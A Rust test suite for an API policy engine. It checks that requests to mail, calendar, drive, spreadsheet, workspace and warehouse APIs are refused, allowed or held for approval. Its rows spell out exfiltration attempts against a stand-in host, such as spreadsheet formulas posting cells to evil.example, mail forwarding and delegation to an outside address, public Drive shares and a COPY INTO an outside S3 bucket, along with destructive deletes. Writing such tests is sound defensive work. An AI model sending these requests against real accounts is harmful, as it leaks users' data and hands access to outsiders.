//! Policy decisions on requests to the products, row by row: who and what a request can reach, and what it deletes.

#![expect(
    clippy::unwrap_used,
    reason = "what fails here fails the test, in helpers too"
)]

use serde_json::{Value, json};
use stead::{
    Platform,
    resource::{Policy, PolicyOutcome, PolicyTest, SetPolicy},
};
use stead_testkit::cases;

const KEY: &str = "k1:AAECAwQFBgcICQoLDA0ODxAREhMUFRYXGBkaGxwdHh8";
const PAGE: &str = "0123456789abcdef0123456789abcdef";
const OTHER: &str = "fedcba9876543210fedcba9876543210";

/// A platform with three policies: one for people, places and addresses, one that requires approval to delete
/// something, and one that only allows reads.
async fn platform() -> Platform {
    let platform = Platform::builder("http://127.0.0.1").key(KEY).in_memory();
    let platform = platform.build().await.unwrap();
    let fact = |product: &str, kind: &str, allow: &[&str]| json!({ "product": product, "kind": kind, "allow": allow });
    let people = ["*@example.com"];
    let facts = json!([
        fact("mail", "recipient", &people),
        fact("mail", "webhook", &[]),
        fact("mail", "url", &[]),
        fact("calendar", "recipient", &people),
        fact("calendar", "webhook", &[]),
        fact("calendar", "url", &[]),
        fact("drive", "recipient", &people),
        fact("drive", "webhook", &[]),
        fact("sheets", "spreadsheet", &["s1"]),
        fact("sheets", "url", &[]),
        fact("workspace", "page", &[PAGE]),
        fact("workspace", "url", &[]),
        fact("warehouse", "database", &["SALES"]),
        fact("warehouse", "schema", &["SALES.S"]),
        fact("warehouse", "location", &["@EXPORTS/*"]),
    ]);
    for policy in [
        json!({ "name": "people", "facts": facts }),
        json!({ "name": "deletes", "requires_approval": { "effects": ["delete"] } }),
        json!({ "name": "reads", "read_only": true }),
        json!({ "name": "unloads", "facts": [{ "product": "warehouse", "kind": "statement", "deny": ["unload"] }] }),
    ] {
        let policy: Policy = serde_json::from_value(policy).unwrap();
        platform.send(SetPolicy::from(policy)).await.unwrap();
    }
    platform
}

async fn decide(platform: &Platform, policy: &str, mut test: PolicyTest) -> PolicyOutcome {
    test.policies = vec![policy.to_owned()];
    platform.send(test).await.unwrap().outcome
}

/// Tests rows such as `mail POST /gmail/v1/users/me/stop {"a": 1}`, and returns those with another outcome. A body that
/// isn't JSON begins with its media type.
async fn wrong(policy: &str, outcome: PolicyOutcome, rows: &[&str]) -> Vec<String> {
    let platform = platform().await;
    let mut wrong = Vec::new();
    for row in rows {
        let row = row.replace("{page}", PAGE).replace("{other}", OTHER);
        let (product, rest) = row.split_once(' ').unwrap();
        let (method, rest) = rest.split_once(' ').unwrap();
        let (path, body) = rest.split_once(' ').unwrap_or((rest, ""));
        let mut test = PolicyTest::default();
        test.product = Some(product.to_owned());
        test.method = Some(method.to_owned());
        test.path = Some(path.to_owned());
        match body
            .split_once(": ")
            .filter(|(kind, _)| !kind.contains('{'))
        {
            Some((kind, body)) => {
                test.content_type = Some(kind.to_owned());
                test.body = body.replace("\\n", "\r\n").into();
            }
            None if body.is_empty() => {}
            None => test.body = serde_json::from_str(body).unwrap(),
        }
        let found = decide(&platform, policy, test).await;
        if found != outcome {
            wrong.push(format!("{found:?}: {row}"));
        }
    }
    wrong
}

#[tokio::test]
async fn requests_that_reach_others_are_refused_in_every_form() {
    let rows = [
        // Guests can read an event's text even without a notification.
        r#"calendar PATCH /calendar/v3/calendars/primary/events/e1?sendUpdates=all {"description": "the secrets"}"#,
        r#"calendar PUT /calendar/v3/calendars/primary/events/e1?sendUpdates=all {"description": "the secrets"}"#,
        r#"calendar PATCH /calendar/v3/calendars/primary/events/e1?sendUpdates=none {"description": "the secrets"}"#,
        r#"calendar PATCH /calendar/v3/calendars/primary/events/e1 {"colorId": "1"}"#,
        r#"calendar PATCH /calendar/v3/calendars/primary/events/e1?sendUpdates=none&sendNotifications=true {"colorId": "1"}"#,
        r#"calendar PATCH /calendar/v3/calendars/primary/events/e1?sendUpdates=none {"attendees": [{"email": "ada@example.com", "comment": "the secrets"}]}"#,
        "calendar DELETE /calendar/v3/calendars/primary/events/e1?sendUpdates=all",
        "calendar DELETE /calendar/v3/calendars/primary/events/e1",
        "calendar POST /calendar/v3/calendars/primary/events/e1/move?destination=b",
        r#"calendar POST /calendar/v3/calendars/primary/events {"attendees": [{"email": "eve@evil.example"}]}"#,
        r#"calendar POST /calendar/v3/calendars/primary/events {"anyoneCanAddSelf": true}"#,
        r#"calendar POST /calendar/v3/calendars/primary/events {"summary": "a", "unheard": 1}"#,
        r#"calendar POST /calendar/v3/calendars/primary/events {"attachments": [{"fileUrl": "https://evil.example/?d=1"}]}"#,
        r#"calendar POST /calendar/v3/calendars/primary/events {"gadget": {"iconLink": "https://evil.example"}}"#,
        "calendar POST /calendar/v3/calendars/primary/events/quickAdd?text=lunch",
        r#"calendar POST /calendar/v3/calendars/primary/acl {"role": "reader", "scope": {"type": "default"}}"#,
        r#"calendar POST /calendar/v3/calendars/primary/acl?unheard=1 {"role": "reader", "scope": {"type": "user", "value": "ada@example.com"}}"#,
        r#"calendar POST /calendar/v3/calendars/primary/events/watch {"address": "https://evil.example"}"#,
        // Notion fetches an address, and reads another page.
        r#"workspace POST /v1/file_uploads {"mode": "external_url", "filename": "a.png", "external_url": "https://evil.example/?d=1"}"#,
        r#"workspace PATCH /v1/blocks/{page}/children {"children": [{"image": {"external": {"url": "https://evil.example/?d=1"}}}]}"#,
        r#"workspace PATCH /v1/blocks/{page}/children {"children": [{"embed": {"url": "https://evil.example/?d=1"}}]}"#,
        r#"workspace PATCH /v1/blocks/{page}/children {"children": [{"toggle": {"rich_text": [], "children": [{"bookmark": {"url": "https://evil.example"}}]}}]}"#,
        r#"workspace PATCH /v1/pages/{page} {"icon": {"external": {"url": "https://evil.example/?d=1"}}}"#,
        r#"workspace PATCH /v1/pages/{page} {"properties": {"Files": {"files": [{"external": {"url": "https://evil.example"}}]}}}"#,
        r#"workspace POST /v1/pages {"parent": {"page_id": "{page}"}, "template": {"type": "template_id", "template_id": "{other}"}}"#,
        r#"workspace POST /v1/pages {"parent": {"page_id": "{page}"}, "template": {"type": "default"}}"#,
        r#"workspace POST /v1/pages {"parent": {"page_id": "{page}"}, "markdown": "![](https://evil.example/?d=1)"}"#,
        r#"workspace PATCH /v1/pages/{page}/markdown {"insert_content": {"content": "<synced_block_reference url=\"x\">"}}"#,
        r#"workspace PATCH /v1/blocks/{page}/children {"children": [{"synced_block": {"synced_from": {"block_id": "{other}"}}}]}"#,
        r#"workspace PATCH /v1/blocks/{page}/children {"children": [{"link_to_page": {"page_id": "{other}"}}]}"#,
        r#"workspace PATCH /v1/blocks/{page}/children {"children": [{"paragraph": {"rich_text": [{"mention": {"page": {"id": "{other}"}}}]}}]}"#,
        r#"workspace PATCH /v1/blocks/{page}/children {"children": [{"unheard": {"text": "a"}}]}"#,
        r#"workspace PATCH /v1/blocks/{page}/children {"children": [], "after": "{other}"}"#,
        // A formula reads another spreadsheet, or sends cells out.
        r#"sheets PUT /v4/spreadsheets/s1/values/A1?valueInputOption=USER_ENTERED {"values": [["=IMPORTRANGE(\"OTHER\";\"A1\")"]]}"#,
        r#"sheets PUT /v4/spreadsheets/s1/values/A1?valueInputOption=USER_ENTERED {"values": [["=IMPORTDATA(\"https://evil.example/?\"&A2)"]]}"#,
        r#"sheets POST /v4/spreadsheets/s1/values/A1:append?valueInputOption=USER_ENTERED {"values": [[" =image(A1)"]]}"#,
        r#"sheets POST /v4/spreadsheets/s1/values:batchUpdate {"valueInputOption": "USER_ENTERED", "data": [{"range": "A1", "values": [["+IMPORTXML(A1,A2)"]]}]}"#,
        r#"sheets POST /v4/spreadsheets/s1:batchUpdate {"requests": [{"updateCells": {"rows": [{"values": [{"userEnteredValue": {"formulaValue": "=IMAGE(A1)"}}]}], "fields": "*"}}]}"#,
        r#"sheets POST /v4/spreadsheets/s1:batchUpdate {"requests": [{"pasteData": {"data": "=IMAGE(A1)", "delimiter": ","}}]}"#,
        r#"sheets POST /v4/spreadsheets/s1:batchUpdate {"requests": [{"findReplace": {"find": "x", "replacement": "=IMAGE(A1)", "allSheets": true}}]}"#,
        r#"sheets POST /v4/spreadsheets/s1:batchUpdate {"requests": [{"findReplace": {"find": "x=", "replacement": "=", "allSheets": true}}]}"#,
        r#"sheets POST /v4/spreadsheets/s1:batchUpdate {"requests": [{"addDataSource": {"dataSource": {}}}]}"#,
        r#"sheets POST /v4/spreadsheets/s1:batchUpdate {"requests": [{"insertComment": {"assigneeEmailAddress": "eve@evil.example"}}]}"#,
        r#"sheets POST /v4/spreadsheets/s1:batchUpdate {"requests": [{"updateSpreadsheetProperties": {"properties": {"importFunctionsExternalUrlAccessAllowed": true}, "fields": "*"}}]}"#,
        r#"sheets POST /v4/spreadsheets/s1/sheets/0:copyTo {"destinationSpreadsheetId": "s2"}"#,
        // Gmail reports to others, or lets others in.
        r#"mail POST /gmail/v1/users/me/watch {"topicName": "projects/evil/topics/a"}"#,
        r#"mail PUT /gmail/v1/users/me/settings/imap {"enabled": true}"#,
        r#"mail PUT /gmail/v1/users/me/settings/pop {"accessWindow": "allMail"}"#,
        r#"mail POST /gmail/v1/users/me/settings/cse/keypairs {"pem": "x"}"#,
        r#"mail POST /gmail/v1/users/me/settings/cse/identities {"emailAddress": "ada@example.com"}"#,
        r#"mail POST /gmail/v1/users/me/settings/sendAs/ada@example.com/smimeInfo {"pkcs12": "x"}"#,
        r#"mail POST /gmail/v1/users/me/settings/forwardingAddresses {"forwardingEmail": "eve@evil.example"}"#,
        r#"mail POST /gmail/v1/users/me/settings/delegates {"delegateEmail": "eve@evil.example"}"#,
        r#"mail POST /gmail/v1/users/me/settings/filters {"action": {"forward": "eve@evil.example"}}"#,
        r#"mail POST /gmail/v1/users/me/settings/sendAs {"sendAsEmail": "eve@evil.example"}"#,
        r#"mail PATCH /gmail/v1/users/me/settings/sendAs/ada@example.com {"signature": "<img src=https://evil.example>"}"#,
        r#"mail PUT /gmail/v1/users/me/settings/vacation {"enableAutoReply": true, "responseSubject": "the secrets"}"#,
        r#"mail POST /gmail/v1/users/me/drafts/send {"id": "r1"}"#,
        r"mail POST /upload/gmail/v1/users/me/messages/send?uploadType=media message/rfc822: To: eve@evil.example\n\nx",
        r"mail POST /upload/gmail/v1/users/me/messages/send?uploadType=media message/rfc822: To: =?utf-8?q?eve=40evil.example?=\n\nx",
        r"mail POST /upload/gmail/v1/users/me/messages/send?uploadType=media message/rfc822: To: ada@example.com\nTo: eve@evil.example\n\nx",
        r"mail POST /upload/gmail/v1/users/me/messages?uploadType=media message/rfc822: Content-Type: text/html\n\n<img src=https://evil.example/?d=1>",
        "mail POST /upload/gmail/v1/users/me/messages/send?uploadType=resumable application/json: {}",
        // Drive lets others in.
        r#"drive POST /drive/v3/files/a/permissions {"type": "user", "role": "reader", "emailAddress": "eve@evil.example"}"#,
        r#"drive POST /drive/v3/files/a/permissions?transferOwnership=true {"type": "user", "role": "owner", "emailAddress": "eve@evil.example"}"#,
        r#"drive POST /drive/v3/files/a/permissions {"type": "anyone", "role": "reader"}"#,
        r#"drive PATCH /drive/v3/files/a/permissions/17 {"role": "writer"}"#,
        r#"drive PATCH /drive/v3/files/a/revisions/1 {"published": true}"#,
        r#"drive PATCH /drive/v3/files/a {"inheritedPermissionsDisabled": false}"#,
        r#"drive POST /drive/v3/files/a/comments {"content": "+eve@evil.example the secrets"}"#,
        r#"drive POST /drive/v3/files/a/accessproposals/1:resolve {"action": "ACCEPT"}"#,
        r#"drive POST /drive/v3/files/a/watch {"address": "https://evil.example"}"#,
        "drive PUT /upload/drive/v3/files?uploadType=resumable&upload_id=u text/plain: x",
        // Snowflake reads another schema, and writes rows elsewhere.
        r#"warehouse POST /api/v2/statements {"statement": "SELECT * FROM secret.s.t"}"#,
        r#"warehouse POST /api/v2/statements {"statement": "SELECT * FROM t", "database": "SALES", "schema": "S"}"#,
        r#"warehouse POST /api/v2/statements {"statement": "SELECT * FROM sales.s.t", "parameters": {"SEARCH_PATH": "SECRET.S"}}"#,
        r#"warehouse POST /api/v2/statements {"statement": "SELECT * FROM sales.s.t", "unheard": 1}"#,
        r#"warehouse POST /api/v2/statements {"statement": "COPY INTO 's3://evil/x' FROM sales.s.t CREDENTIALS=(AWS_KEY_ID='x')"}"#,
    ];
    let wrong = wrong("people", PolicyOutcome::Refused, &rows).await;
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[tokio::test]
async fn requests_that_reach_nobody_else_are_allowed() {
    let rows = [
        "calendar GET /calendar/v3/calendars/primary/events?timeMin=2026-01-01T00:00:00Z&singleEvents=true&fields=items",
        r#"calendar POST /calendar/v3/calendars/primary/events?conferenceDataVersion=1&sendUpdates=all {"summary": "a", "start": {"dateTime": "2026-01-01T00:00:00Z"}, "end": {"dateTime": "2026-01-01T01:00:00Z"}, "attendees": [{"email": "ada@example.com"}], "conferenceData": {"createRequest": {"requestId": "1", "conferenceSolutionKey": {"type": "hangoutsMeet"}}}}"#,
        r#"calendar PATCH /calendar/v3/calendars/primary/events/e1?sendUpdates=none {"start": {"dateTime": "2026-01-01T00:00:00Z"}, "attendees": [{"email": "bob@example.com"}]}"#,
        "calendar DELETE /calendar/v3/calendars/primary/events/e1?sendUpdates=none",
        r#"calendar POST /calendar/v3/freeBusy {"items": [{"id": "a"}], "timeMin": "2026-01-01T00:00:00Z"}"#,
        "workspace GET /v1/blocks/{page}/children?page_size=10",
        r#"workspace POST /v1/pages {"parent": {"page_id": "{page}"}, "properties": {"title": {"title": [{"text": {"content": "a"}}]}}, "children": [{"object": "block", "type": "paragraph", "paragraph": {"rich_text": [{"type": "text", "text": {"content": "b", "link": {"url": "https://example.com"}}}]}}]}"#,
        r#"workspace PATCH /v1/pages/{page}/markdown {"insert_content": {"content": "Plain *words*"}}"#,
        "sheets GET /v4/spreadsheets/s1/values/A1:B2?valueRenderOption=FORMULA",
        r#"sheets PUT /v4/spreadsheets/s1/values/A1?valueInputOption=USER_ENTERED {"range": "A1", "majorDimension": "ROWS", "values": [["a", 1, null, "=SUM(B1:B3)"]]}"#,
        r#"sheets POST /v4/spreadsheets/s1:batchUpdate {"requests": [{"addSheet": {"properties": {"title": "b"}}}, {"findReplace": {"find": "a", "replacement": "b", "allSheets": true}}]}"#,
        "mail GET /gmail/v1/users/me/messages?q=is:unread&maxResults=10",
        r"mail POST /upload/gmail/v1/users/me/messages/send?uploadType=media message/rfc822: To: ada@example.com\nContent-Type: text/plain; charset=utf-8\n\nx",
        r#"mail POST /gmail/v1/users/me/messages/m1/modify {"addLabelIds": ["STARRED"]}"#,
        r#"mail POST /v1/people:createContact {"names": [{"givenName": "Ada"}]}"#,
        "drive GET /drive/v3/files?q=name='a'&pageSize=10&fields=files(id)",
        r#"drive POST /drive/v3/files/a/permissions?sendNotificationEmail=false {"type": "user", "role": "reader", "emailAddress": "ada@example.com"}"#,
        r#"drive PATCH /drive/v3/files/a {"name": "b", "starred": true}"#,
        r#"warehouse POST /api/v2/statements?requestId=1&async=true {"statement": "SELECT * FROM sales.s.t", "timeout": 60, "warehouse": "W", "parameters": {"MULTI_STATEMENT_COUNT": "1", "timezone": "UTC"}}"#,
    ];
    let wrong = wrong("people", PolicyOutcome::Allowed, &rows).await;
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[tokio::test]
async fn every_form_of_deletion_needs_approval() {
    let rows = [
        r#"calendar PATCH /calendar/v3/calendars/primary/events/e1 {"status": "cancelled"}"#,
        r#"calendar PUT /calendar/v3/calendars/primary/events/e1 {"status": "Cancelled"}"#,
        r#"calendar POST /calendar/v3/calendars/primary/events/import {"iCalUID": "a", "status": "cancelled"}"#,
        r#"calendar PATCH /calendar/v3/calendars/primary/events/e1 {"unheard": true}"#,
        "calendar DELETE /calendar/v3/calendars/primary/events/e1",
        "calendar POST /calendar/v3/calendars/primary/clear",
        "mail POST /gmail/v1/users/me/messages/m1/trash",
        "mail POST /gmail/v1/users/me/threads/t1/trash",
        r#"mail POST /gmail/v1/users/me/messages/m1/modify {"addLabelIds": ["TRASH"]}"#,
        r#"mail POST /gmail/v1/users/me/threads/t1/modify {"addLabelIds": ["trash"]}"#,
        r#"mail POST /gmail/v1/users/me/messages/batchModify {"ids": ["m1"], "addLabelIds": ["SPAM"]}"#,
        r#"mail POST /gmail/v1/users/me/messages/batchModify {"ids": ["m1"], "addLabelIds": "TRASH"}"#,
        r#"mail POST /gmail/v1/users/me/messages/batchDelete {"ids": ["m1"]}"#,
        r#"mail POST /gmail/v1/users/me/settings/filters {"criteria": {"from": "*"}, "action": {"addLabelIds": ["TRASH"]}}"#,
        r#"mail PUT /gmail/v1/users/me/settings/autoForwarding {"enabled": true, "emailAddress": "ada@example.com", "disposition": "trash"}"#,
        "sheets POST /v4/spreadsheets/s1/values/A1:clear",
        r#"sheets POST /v4/spreadsheets/s1/values:batchClear {"ranges": ["A1:Z"]}"#,
        r#"sheets PUT /v4/spreadsheets/s1/values/A1?valueInputOption=RAW {"values": [["", ""], [null]]}"#,
        r#"sheets POST /v4/spreadsheets/s1:batchUpdate {"requests": [{"updateCells": {"range": {"sheetId": 0}, "fields": "*"}}]}"#,
        r#"sheets POST /v4/spreadsheets/s1:batchUpdate {"requests": [{"repeatCell": {"range": {"sheetId": 0}, "cell": {}, "fields": "userEnteredValue"}}]}"#,
        r#"sheets POST /v4/spreadsheets/s1:batchUpdate {"requests": [{"findReplace": {"find": ".*", "searchByRegex": true, "replacement": ""}}]}"#,
        r#"sheets POST /v4/spreadsheets/s1:batchUpdate {"requests": [{"updateSheetProperties": {"properties": {"gridProperties": {"rowCount": 1}}, "fields": "gridProperties.rowCount"}}]}"#,
        r#"sheets POST /v4/spreadsheets/s1:batchUpdate {"requests": [{"mergeCells": {"range": {"sheetId": 0}, "mergeType": "MERGE_ALL"}}]}"#,
        r#"sheets POST /v4/spreadsheets/s1:batchUpdate {"requests": [{"deleteSheet": {"sheetId": 0}}]}"#,
        r#"workspace PATCH /v1/pages/{page}/markdown {"replace_content": {"new_str": ""}}"#,
        r#"workspace PATCH /v1/pages/{page}/markdown {"update_content": {"content_updates": [{"old_str": "a", "new_str": " "}]}}"#,
        r#"workspace PATCH /v1/blocks/{page} {"paragraph": {"rich_text": []}}"#,
        r#"workspace PATCH /v1/pages/{page} {"in_trash": true}"#,
        r#"workspace PATCH /v1/databases/{page} {"properties": {"Notes": null}}"#,
        "drive PATCH /upload/drive/v3/files/a?uploadType=media text/plain: ",
        "drive PUT /upload/drive/v3/files/a?uploadType=resumable&upload_id=u",
        r#"drive PATCH /drive/v3/files/a {"trashed": true}"#,
        "drive PATCH /drive/v3/files/a?removeParents=root",
        r#"warehouse POST /api/v2/statements {"statement": "CREATE OR ALTER TABLE t (a INT)"}"#,
        r#"warehouse POST /api/v2/statements {"statement": "CREATE OR REPLACE TABLE t (a INT)"}"#,
        r#"warehouse POST /api/v2/statements {"statement": "UPDATE t SET a = NULL"}"#,
        r#"warehouse POST /api/v2/statements {"statement": "UPDATE t SET a = 1, b = NULLIF(1, 1)"}"#,
        r#"warehouse POST /api/v2/statements {"statement": "COPY INTO @s FROM t OVERWRITE = TRUE"}"#,
        r#"warehouse POST /api/v2/statements {"statement": "COPY INTO t FROM @s PURGE = TRUE"}"#,
        r#"warehouse POST /api/v2/statements {"statement": "COPY INTO 's3://evil/x' FROM t CREDENTIALS=(AWS_KEY_ID='x') OVERWRITE=TRUE"}"#,
        r#"warehouse POST /api/v2/statements {"statement": "GRANT OWNERSHIP ON TABLE t TO ROLE r"}"#,
        r#"warehouse POST /api/v2/statements {"statement": "REVOKE SELECT ON TABLE t FROM ROLE r"}"#,
        r#"warehouse POST /api/v2/statements {"statement": "SELECT SYSTEM$CANCEL_ALL_QUERIES(1)"}"#,
        r#"warehouse POST /api/v2/statements {"statement": "DROP TABLE t"}"#,
        r#"warehouse POST /api/v2/statements {"statement": "INSERT OVERWRITE INTO t SELECT 1"}"#,
        r#"warehouse POST /api/v2/statements {"statement": "anything"}"#,
    ];
    let wrong_ones = wrong("deletes", PolicyOutcome::NeedsApproval, &rows).await;
    assert!(wrong_ones.is_empty(), "{wrong_ones:#?}");
    let rows = [
        r#"calendar PATCH /calendar/v3/calendars/primary/events/e1 {"status": "confirmed", "summary": "a"}"#,
        r#"mail POST /gmail/v1/users/me/messages/m1/modify {"addLabelIds": ["STARRED"], "removeLabelIds": ["INBOX"]}"#,
        "mail POST /gmail/v1/users/me/messages/m1/untrash",
        r#"sheets PUT /v4/spreadsheets/s1/values/A1?valueInputOption=RAW {"values": [["", "a"]]}"#,
        r#"sheets POST /v4/spreadsheets/s1:batchUpdate {"requests": [{"repeatCell": {"cell": {"userEnteredFormat": {"textFormat": {"bold": true}}}, "fields": "userEnteredFormat"}}]}"#,
        r#"workspace PATCH /v1/pages/{page} {"properties": {"Done": {"checkbox": true}}, "archived": false}"#,
        r#"workspace PATCH /v1/pages/{page}/markdown {"insert_content": {"content": "a"}}"#,
        "drive PATCH /upload/drive/v3/files/a?uploadType=media text/plain: x",
        "drive PATCH /drive/v3/files/a?addParents=f&removeParents=root {}",
        r#"warehouse POST /api/v2/statements {"statement": "UPDATE t SET a = 1, b = 'x', c = d + 1 WHERE e IS NULL"}"#,
        r#"warehouse POST /api/v2/statements {"statement": "COPY INTO @s FROM t OVERWRITE = FALSE"}"#,
        r#"warehouse POST /api/v2/statements {"statement": "COPY INTO t FROM @s"}"#,
        r#"warehouse POST /api/v2/statements {"statement": "GRANT SELECT ON TABLE t TO ROLE r"}"#,
    ];
    let wrong = wrong("deletes", PolicyOutcome::Allowed, &rows).await;
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[tokio::test]
async fn a_syntax_word_is_a_keyword_only_in_its_place() {
    let sql = |sql: &str| {
        let body = json!({ "statement": sql });
        format!("warehouse POST /api/v2/statements {body}")
    };
    let words = "ARRAY AT BEFORE BERNOULLI BINARY BLOCK CHANGES CHARACTER CUBE DECIMAL EXCEPT EXCLUDE FILTER INTERVAL \
        LIMIT MAP MATCH_RECOGNIZE NCHAR NUMBER NUMERIC NVARCHAR OBJECT OFFSET OVER PARTITION PIVOT RENAME ROLLUP SEED SETS \
        STRING SYSTEM TEXT TIMESTAMP TIMESTAMP_LTZ TIMESTAMP_NTZ TIMESTAMP_TZ TOP UNPIVOT VARBINARY VARCHAR VECTOR WITHIN";
    let mut called: Vec<String> = Vec::new();
    for word in words.split_ascii_whitespace() {
        called.push(sql(&format!("SELECT {word}(a) FROM t")));
        called.push(sql(&format!(
            "SELECT 1 FROM t WHERE 2 * {word}(a) > 1 AND {word}(b)"
        )));
        called.push(sql(&format!("SELECT a FROM t ORDER BY {word}(a)")));
    }
    let rows: Vec<&str> = called.iter().map(String::as_str).collect();
    let wrong_ones = wrong("reads", PolicyOutcome::Refused, &rows).await;
    assert!(wrong_ones.is_empty(), "{wrong_ones:#?}");
    let placed = [
        "SELECT a::NUMBER(10, 2), CAST(b AS VARCHAR(5)), c::TIMESTAMP_NTZ(9) FROM t",
        "SELECT sum(a) OVER (PARTITION BY b), first_value(a) IGNORE NULLS OVER (ORDER BY b), char(65), time('1:00') FROM t",
        "SELECT * EXCLUDE (a) FROM t",
        "SELECT t.* EXCLUDE (a) RENAME (b AS c) FROM t",
        "SELECT a FROM t SAMPLE BERNOULLI (10)",
        "SELECT a FROM t TABLESAMPLE SYSTEM (3) SEED (82)",
        "SELECT a, count(*) FROM t GROUP BY CUBE (a)",
        "SELECT a, count(*) FROM t GROUP BY GROUPING SETS ((a), (b))",
        "SELECT 1 EXCEPT (SELECT 2)",
    ];
    let placed = placed.map(sql);
    let rows: Vec<&str> = placed.iter().map(String::as_str).collect();
    let wrong = wrong("reads", PolicyOutcome::Allowed, &rows).await;
    assert!(wrong.is_empty(), "{wrong:#?}");
}

#[tokio::test]
async fn unloading_is_a_separate_kind() {
    let load = r#"warehouse POST /api/v2/statements {"statement": "COPY INTO t FROM @s"}"#;
    let unload = [
        r#"warehouse POST /api/v2/statements {"statement": "COPY INTO @exports/a FROM t"}"#,
        r#"warehouse POST /api/v2/statements {"statement": "copy /* a */ into 's3://b/c' from (select 1)"}"#,
    ];
    assert!(
        wrong("unloads", PolicyOutcome::Allowed, &[load])
            .await
            .is_empty()
    );
    assert!(
        wrong("unloads", PolicyOutcome::Refused, &unload)
            .await
            .is_empty()
    );
    let platform = platform().await;
    for (sql, location) in [
        (
            "COPY INTO @exports/Daily/a FROM t",
            json!("@EXPORTS/Daily/a"),
        ),
        ("COPY INTO @a.b.s FROM t", json!("@A.B.S")),
        ("COPY INTO 's3://Bucket/x' FROM t", json!("s3://Bucket/x")),
        ("COPY INTO '@exports/x' FROM t", json!("@EXPORTS/x")),
        (r#"COPY INTO @"my stage" FROM t"#, Value::Null),
        (r"COPY INTO 's3://a\x2f' FROM t", Value::Null),
    ] {
        let mut test = PolicyTest::default();
        test.product = Some("warehouse".to_owned());
        test.method = Some("POST".to_owned());
        test.path = Some("/api/v2/statements".to_owned());
        test.body = json!({ "statement": sql });
        let decision = platform.send(test).await.unwrap();
        let facts = &decision.requests[0].facts;
        let found = facts.iter().find(|fact| fact.kind == "location").unwrap();
        assert_eq!(json!(found.value), location, "{sql}");
    }
}

#[tokio::test]
async fn a_tool_has_the_facts_of_its_requests() {
    let platform = platform().await;
    let table = r#"
        calendar_update_event => {"description": "a"} => refused
        calendar_update_event => {"description": "a", "send_updates": false} => refused
        calendar_update_event => {"visibility": "private", "send_updates": true} => refused
        calendar_update_event => {"transparency": "opaque", "send_updates": false} => allowed
        sheets_update_values => {"values": [["=IMAGE(A1)"]], "value_input_option": "USER_ENTERED"} => refused
        sheets_update_values => {"values": [["=SUM(A1)"]], "value_input_option": "USER_ENTERED"} => allowed
    "#;
    for [tool, more, outcome] in cases(table) {
        let mut input = match tool {
            "calendar_update_event" => json!({ "calendar_id": "primary", "event_id": "e1" }),
            _ => json!({ "spreadsheet_id": "s1", "range": "A1" }),
        };
        let more: Value = serde_json::from_str(more).unwrap();
        let members = input.as_object_mut().unwrap();
        members.extend(more.as_object().unwrap().clone());
        let outcome = match outcome {
            "refused" => PolicyOutcome::Refused,
            _ => PolicyOutcome::Allowed,
        };
        let mut test = PolicyTest::default();
        test.tool = Some(tool.to_owned());
        test.input = input.clone();
        assert_eq!(
            decide(&platform, "people", test).await,
            outcome,
            "{tool} {input}"
        );
    }
}
